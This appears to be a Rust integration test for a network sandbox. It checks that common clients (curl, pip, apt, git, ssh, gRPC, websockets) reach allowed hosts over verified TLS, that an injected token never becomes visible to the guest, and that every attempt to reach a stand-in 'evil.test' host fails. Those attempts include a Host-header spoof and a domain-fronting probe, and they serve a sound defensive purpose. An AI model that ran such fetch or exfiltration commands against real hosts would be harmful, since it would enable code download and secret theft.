//! Programs that people use, in a sealed sandbox: what is allowed works as it does outside, TLS verified; what is not fails
//! at once; a secret is the server's to see, and not the guest's.

use std::process::ExitCode;

use anyhow::{Context, Result, ensure};
use matchlock_testkit::{
    Home,
    internet::{Internet, Request, Story, tell},
};
use matchlock_tests::{CLIENTS, Sandbox, clients, fetch_for_clients};

const SECRET: &str = "v4lue-of-the-t0ken";
const FLAGS: &[&str] = &[
    "--allow-host",
    "*.good.test,db.good.test:5432,shell.good.test:22",
    "--secret",
    "TOKEN=v4lue-of-the-t0ken@api.good.test,git.good.test",
];

fn main() -> ExitCode {
    let stories: [(&str, Client); 11] = [
        ("curl", curl),
        ("wget", wget),
        ("python_requests", requests),
        ("node_fetch", node),
        ("git", git),
        ("apt", apt),
        ("pip", pip),
        ("openssl", openssl),
        ("ssh", ssh),
        ("grpc", grpc),
        ("websockets", websockets),
    ];
    let story = |(name, story): (&str, Client)| {
        Story::new(name, move |internet: &Internet| {
            let home = clients()?.env("SSL_CERT_FILE", internet.root());
            story(&Visit { sandbox: Sandbox::idle(&home, CLIENTS, FLAGS)?, internet, home: &home })
        })
    };
    tell(fetch_for_clients, stories.into_iter().map(story).collect())
}

/// What a program does there.
type Client = fn(&Visit<'_>) -> Result<()>;

/// A sealed sandbox on the internet.
struct Visit<'a> {
    sandbox: Sandbox<'a>,
    internet: &'a Internet,
    home: &'a Home,
}

impl Visit<'_> {
    /// What a script prints, which succeeds, and never prints the secret.
    fn works(&self, script: &str) -> Result<String> {
        let said = self.sandbox.sh(script).with_context(|| script.to_owned())?;
        ensure!(!said.contains(SECRET), "the guest has seen the secret: {said}");
        Ok(said)
    }

    /// What a script complains of, which fails because of policy: nothing has arrived, and the log says what would allow it.
    fn fails(&self, script: &str) -> Result<String> {
        let _before = self.internet.arrived();
        let output = self.sandbox.exec(&["sh", "-c", script]).run()?;
        ensure!(!output.status.success(), "it went through: {output}");
        let arrived = self.internet.arrived();
        ensure!(!arrived.questions().any(|name| name.contains("evil")), "{:?}", arrived.told);
        ensure!(arrived.packets.iter().all(|packet| !packet.to_string().contains(".66:")), "{:?}", arrived.packets);
        let log = self.home.matchlock(["log", "--network", self.sandbox.id()]).run()?.success()?.stdout();
        ensure!(log.contains("--allow-host evil.test"), "what would allow it is not in the log:\n{log}");
        Ok(output.stdout() + &output.stderr())
    }

    /// The last request that has arrived.
    fn request(&self) -> Result<Request> {
        let arrived = self.internet.arrived();
        arrived.requests().next_back().cloned().with_context(|| format!("no request: {:?}", arrived.told))
    }
}

fn curl(visit: &Visit<'_>) -> Result<()> {
    for version in ["1.1", "2"] {
        let seen = visit.works(&format!("curl -sS --http{version} https://api.good.test/there?a=b"))?;
        ensure!(seen.contains("\"sni\":\"api.good.test\"") && seen.contains("/there?a=b"), "{seen}");
    }
    visit.works("curl -sS -u user:$TOKEN https://api.good.test/")?;
    // "user:" and the secret.
    let basic = "Basic dXNlcjp2NGx1ZS1vZi10aGUtdDBrZW4=";
    ensure!(visit.request()?.header("authorization") == Some(basic));
    visit.works("curl -sS -H \"X-Key: $TOKEN\" \"https://api.good.test/?key=$TOKEN\"")?;
    let request = visit.request()?;
    ensure!(
        request.header("x-key") == Some(SECRET) && request.target.ends_with(&format!("?key={SECRET}")),
        "{request:?}"
    );
    let echoed = visit.works("curl -sS -H \"Authorization: Bearer $TOKEN\" https://api.good.test/echo")?;
    ensure!(echoed.starts_with("Bearer "), "{echoed}");
    ensure!(visit.works("curl -sS -N https://www.good.test/sse")?.ends_with("data: 3"));
    ensure!(visit.works("head -c 3000000 /dev/zero | curl -sS -T - https://www.good.test/ | wc -c")? != "0");
    ensure!(visit.works("curl -sS -r 0-4 -H 'Authorization: 12345' https://www.good.test/echo/range")? == "12345");
    ensure!(visit.works("curl -sS http://www.good.test/bytes/100000 | wc -c")? == "100000");

    let refused = visit.works("curl -sS -H 'Host: evil.test' http://www.good.test/")?;
    ensure!(refused.contains("host not in allowlist") && refused.contains("--allow-host evil.test"), "{refused}");
    ensure!(visit.fails("curl -sS https://evil.test/")?.contains("Could not resolve host"));
    let leak = visit.works("curl -sS -H \"Authorization: Bearer $TOKEN\" https://www.good.test/")?;
    ensure!(leak.contains("TOKEN"), "what was blocked is named: {leak}");
    Ok(())
}

fn wget(visit: &Visit<'_>) -> Result<()> {
    // As when ca-certificates is installed: the image's bundle is made anew, and wget reads no other.
    visit.works("update-ca-certificates --fresh")?;
    ensure!(visit.works("wget -qO- https://api.good.test/bytes/5")? == "xxxxx");
    visit.works("wget -qO- --header \"Authorization: Bearer $TOKEN\" https://api.good.test/")?;
    ensure!(visit.request()?.header("authorization") == Some("Bearer v4lue-of-the-t0ken"));
    ensure!(
        visit
            .fails("wget -qO- --tries=1 https://evil.test/ 2>&1 || wget -nv --tries=1 https://evil.test/")?
            .contains("evil.test")
    );
    Ok(())
}

fn requests(visit: &Visit<'_>) -> Result<()> {
    let get = |url: &str| {
        format!("python3 -c 'import os, requests; s = requests.Session(); s.headers[\"Authorization\"] = os.environ[\"TOKEN\"]
for _ in range(3): print(s.get(\"{url}\", timeout=60).status_code)'")
    };
    ensure!(visit.works(&get("https://api.good.test/chunks"))? == "200\n200\n200");
    ensure!(visit.request()?.header("authorization") == Some(SECRET));
    ensure!(visit.works(&get("https://www.good.test/"))? == "403\n403\n403");
    ensure!(visit.fails(&get("https://evil.test/"))?.contains("Name or service not known"));
    Ok(())
}

fn node(visit: &Visit<'_>) -> Result<()> {
    let fetch = |url: &str| {
        let options = "{method: \"POST\", body: \"hello\", headers: {authorization: process.env.TOKEN}}";
        format!("node -e 'fetch(\"{url}\", {options}).then(r => r.text()).then(console.log)'")
    };
    let seen = visit.works(&fetch("https://api.good.test/echo"))?;
    ensure!(seen.ends_with(" hello"), "{seen}");
    let request = visit.request()?;
    ensure!(request.header("authorization") == Some(SECRET) && request.body == b"hello", "{request:?}");
    ensure!(visit.fails(&fetch("https://evil.test/"))?.contains("ENOTFOUND"));
    Ok(())
}

fn git(visit: &Visit<'_>) -> Result<()> {
    let said = visit.works("cd /tmp && git clone -q https://git.good.test/project.git && cat project/README")?;
    ensure!(said == "hello from git", "{said}");
    let commit = "git -c user.name=n -c user.email=n@good.test commit -q --allow-empty -m second";
    let push = format!(
        "cd /tmp/project && {commit} && git push -q https://user:$TOKEN@git.good.test/project.git HEAD:refs/heads/new"
    );
    visit.works(&push)?;
    let basic = "Basic dXNlcjp2NGx1ZS1vZi10aGUtdDBrZW4=";
    ensure!(visit.request()?.header("authorization") == Some(basic));
    visit.works("git ls-remote https://git.good.test/project.git | grep refs/heads/new")?;
    visit.fails("git clone -q https://evil.test/project.git /tmp/evil")?;
    Ok(())
}

fn apt(visit: &Visit<'_>) -> Result<()> {
    let apt = "apt-get -q -o Dir::Etc::sourcelist=/tmp/list -o Dir::Etc::sourceparts=/none -o APT::Sandbox::User=root";
    visit.works("echo 'deb [trusted=yes] https://deb.good.test ./' > /tmp/list")?;
    let said = visit.works(&format!("{apt} update && {apt} install -y hello-world && cat /usr/share/hello-world"))?;
    ensure!(said.ends_with("hello from the repository"), "{said}");
    visit.works("echo 'deb [trusted=yes] https://evil.test ./' > /tmp/list")?;
    visit.fails(&format!("{apt} -o APT::Update::Error-Mode=any update"))?;
    Ok(())
}

fn pip(visit: &Visit<'_>) -> Result<()> {
    let pip =
        "pip install -q --break-system-packages --root-user-action ignore --disable-pip-version-check --index-url";
    let import = "python3 -c 'import hello_world; print(hello_world.text)'";
    let said = visit.works(&format!("{pip} https://pypi.good.test/simple hello-world && {import}"))?;
    ensure!(said == "hello from the index", "{said}");
    visit.fails(&format!("{pip} https://evil.test/simple --retries 0 --force-reinstall hello-world"))?;
    Ok(())
}

fn openssl(visit: &Visit<'_>) -> Result<()> {
    let client = "openssl s_client -verify_return_error -connect";
    let said = visit.works(&format!("{client} api.good.test:443 -servername api.good.test </dev/null 2>&1"))?;
    ensure!(said.contains("Verify return code: 0 (ok)"), "{said}");
    visit.fails(&format!("{client} evil.test:443 -servername evil.test </dev/null"))?;
    // Another name at an address that the guest may reach: a clean end, not a certificate.
    let fronted = format!("{client} cdn.good.test:443 -servername evil.test </dev/null");
    let said = visit.fails(&fronted)?;
    ensure!(!said.contains("BEGIN CERTIFICATE"), "{said}");
    Ok(())
}

fn ssh(visit: &Visit<'_>) -> Result<()> {
    let (key, known) = visit.internet.ssh_key()?;
    visit.works(&format!("umask 077 && cat > /tmp/key <<'END'\n{key}END\ncat > /tmp/known <<'END'\n{known}END"))?;
    let ssh = "ssh -F none -i /tmp/key -o UserKnownHostsFile=/tmp/known -o BatchMode=yes";
    let said = visit.works(&format!("{ssh} git@shell.good.test something"))?;
    ensure!(said == "hello git, you said something", "{said}");
    visit.fails(&format!("{ssh} git@evil.test something"))?;
    Ok(())
}

fn grpc(visit: &Visit<'_>) -> Result<()> {
    let call = |host: &str| {
        format!(
            "python3 -c '
import grpc, os
channel = grpc.secure_channel(\"{host}:443\", grpc.ssl_channel_credentials(open(\"/etc/ssl/certs/ca-certificates.crt\", \"rb\").read()))
metadata = [(\"authorization\", os.environ[\"TOKEN\"])]
print(channel.unary_unary(\"/echo.Echo/Unary\")(b\"one\", metadata=metadata, timeout=60))
print(list(channel.stream_stream(\"/echo.Echo/Stream\")(iter([b\"one\", b\"two\"]), metadata=metadata, timeout=60)))'"
        )
    };
    ensure!(visit.works(&call("api.good.test"))? == "b'one'\n[b'one', b'two']");
    let request = visit.request()?;
    ensure!(request.version == "HTTP/2.0" && request.header("authorization") == Some(SECRET), "{request:?}");
    visit.fails(&call("evil.test"))?;
    Ok(())
}

fn websockets(visit: &Visit<'_>) -> Result<()> {
    let talk = |host: &str| {
        format!(
            "python3 -c '
import asyncio, os, websockets
async def talk():
    headers = {{\"Authorization\": os.environ[\"TOKEN\"]}}
    async with websockets.connect(\"wss://{host}/ws\", extra_headers=headers, open_timeout=60) as socket:
        for text in (\"one\", \"two\" * 1000):
            await socket.send(text)
            print((await socket.recv())[:3])
asyncio.run(talk())'"
        )
    };
    ensure!(visit.works(&talk("api.good.test"))? == "one\ntwo");
    ensure!(visit.request()?.header("authorization") == Some(SECRET));
    visit.fails(&talk("evil.test"))?;
    Ok(())
}
